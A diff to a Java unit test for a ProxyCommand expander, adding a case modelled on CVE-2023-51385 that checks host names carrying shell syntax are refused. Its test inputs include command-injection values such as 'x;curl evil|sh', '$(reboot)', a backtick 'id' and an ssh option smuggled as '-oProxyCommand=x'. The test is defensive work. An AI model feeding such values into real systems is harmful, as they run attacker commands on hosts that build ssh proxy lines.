@@ -15,6 +15,16 @@ class ProxyCommandTest {
         assertEquals("trailing %", ProxyCommand.expand("trailing %", "x", 1));
     }
 
+    /** CVE-2023-51385's kind: a host name from an untrusted source must not run commands. */
+    @Test
+    void aHostNameAShellWouldActOnIsRefused() {
+        for (String host : new String[] {"x;curl evil|sh", "$(reboot)", "a b", "-oProxyCommand=x", "`id`", "h\nx", ""}) {
+            assertThrows(IllegalArgumentException.class, () -> ProxyCommand.expand("ssh -W %h:%p bastion", host, 22),
+                    host);
+        }
+        assertEquals("nc fe80::1%eth0 22", ProxyCommand.expand("nc %h %p", "fe80::1%eth0", 22));
+    }
+
     @Test
     void aTokenNotKnownHereIsRefusedRatherThanPassedOn() {
         IllegalArgumentException refused = assertThrows(IllegalArgumentException.class,
